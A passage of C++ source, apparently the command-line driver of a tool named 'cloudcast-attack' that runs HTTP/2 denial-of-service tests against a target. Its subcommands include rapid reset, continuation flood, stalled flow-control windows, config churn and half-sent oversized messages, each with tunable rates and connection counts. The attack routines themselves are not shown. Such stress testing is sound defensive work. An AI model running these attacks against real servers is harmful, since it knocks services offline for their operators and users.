        ->check(CLI::Range(0.0, 1000.0))
        ->capture_default_str();
    sub->add_option("--exit", raw.exit,
                    "How the client leaves at the end, as a program that exits: close (END_STREAM "
                    "on each call, reading stops, the socket is closed 100 ms later: the kernel "
                    "resets the connection if replies arrived meanwhile, else sends a FIN after "
                    "what is unsent), drain (END_STREAM, then up to 5 s for the server to end each "
                    "call, then as close), reset (RST_STREAM CANCEL on each, then as close), "
                    "abort (a TCP reset at once, nothing said)")
        ->check(CLI::IsMember({"close", "drain", "reset", "abort"}))
        ->capture_default_str();
  };
  auto* sw = app.add_subcommand(
      "stalled-window",
      "DELIVERY_ALL Stream calls on raw HTTP/2 connections advertising the default 64 KB window, "
      "sending frames and never giving the window of the replies back (or slowly)");
  add_raw(sw);
  sw->add_option("--window-rate", window_rate,
                 "Bytes a second of window given back (connection and streams); 0: never")
      ->check(CLI::Range(0.0, 1e9))
      ->capture_default_str();
  auto* cc = app.add_subcommand(
      "config-churn",
      "Stream calls on a raw HTTP/2 connection sending a new StreamConfig before every frame, as "
      "fast as flow control lets them, reading every reply; then leaving (--exit)");
  add_raw(cc);

  int connections = 4;
  double message_mb = 59;
  auto* ip = app.add_subcommand(
      "incomplete-process",
      "Process calls on raw HTTP/2 connections, each sending a message but its last byte, then "
      "holding the call open");
  add_common(ip);
  ip->add_option("--calls", calls, "Process calls")
      ->check(CLI::Range(1, 1000))
      ->capture_default_str();
  ip->add_option("--connections", connections, "Connections the calls are spread over")
      ->check(CLI::Range(1, 64))
      ->capture_default_str();
  ip->add_option("--message-mb", message_mb, "The size each message announces, MB")
      ->check(CLI::Range(0.01, 4000.0))
      ->capture_default_str();

  CLI11_PARSE(app, argc, argv);
  if (!common.source.empty() && inet_pton(AF_INET, common.source.c_str(), &g_source) != 1) {
    std::cerr << "cloudcast-attack: --source '" << common.source << "' is not an IPv4 address\n";
    return 2;
  }
  json result;
  if (rr->parsed()) {
    result = RapidReset(common, path, pairs_per_write, with_message);
  } else if (cf->parsed()) {
    result = ContinuationFlood(common, path, frames_per_write, value_bytes, flood_connections);
  } else if (bf->parsed()) {
    result = BigFrames(common, calls, side, encoding, leaf);
  } else if (ip->parsed()) {
    result = IncompleteProcess(common, calls, connections,
                               static_cast<std::uint64_t>(message_mb * 1024 * 1024));
  } else if (gs->parsed()) {
    result = GreedyStreams(common, calls, side);
  } else if (sw->parsed() || cc->parsed()) {
    auto frame = BigFrame(raw_side, frame_encoding, 100);
    if (!frame.ok()) {
      result = {{"error", std::string(frame.status().message())}};
    } else if (sw->parsed()) {
      raw.window.mode = window_rate > 0 ? WindowPolicy::kRate : WindowPolicy::kNever;
      raw.window.bytes_per_second = window_rate;
      result = RawStreams(common, "stalled-window", raw, *frame);
    } else {
      raw.churn = true;
      result = RawStreams(common, "config-churn", raw, *frame);
    }
  } else {
    result = SilentStreams(common, calls);
  }
  result["target"] = common.target;
  result["source"] = common.source;
  std::cout << result.dump() << std::endl;
  return result.contains("error") ? 1 : 0;
}
